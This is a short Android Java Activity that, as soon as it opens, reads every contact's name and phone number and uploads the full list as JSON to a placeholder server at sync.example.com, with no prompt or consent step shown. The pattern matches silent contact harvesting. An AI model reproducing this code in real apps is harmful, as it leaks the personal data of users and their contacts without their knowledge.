package p;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.provider.ContactsContract;
import okhttp3.MediaType;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            upload(read());
        } catch (JSONException error) {
            finish();
        }
    }

    private JSONArray read() throws JSONException {
        JSONArray people = new JSONArray();
        Uri table = ContactsContract.CommonDataKinds.Phone.CONTENT_URI;
        Cursor cursor = getContentResolver().query(table, null, null, null, null);
        if (cursor == null) {
            return people;
        }
        int name = cursor.getColumnIndex(ContactsContract.CommonDataKinds.Phone.DISPLAY_NAME);
        int number = cursor.getColumnIndex(ContactsContract.CommonDataKinds.Phone.NUMBER);
        while (cursor.moveToNext()) {
            JSONObject person = new JSONObject();
            person.put("name", cursor.getString(name));
            person.put("number", cursor.getString(number));
            people.put(person);
        }
        cursor.close();
        return people;
    }

    private static void upload(JSONArray people) throws JSONException {
        JSONObject all = new JSONObject().put("people", people);
        RequestBody body = RequestBody.create(MediaType.parse("application/json"), all.toString());
        Request request = new Request.Builder().url("https://sync.example.com/people").post(body).build();
        new OkHttpClient().newCall(request).enqueue(new Ignore());
    }
}
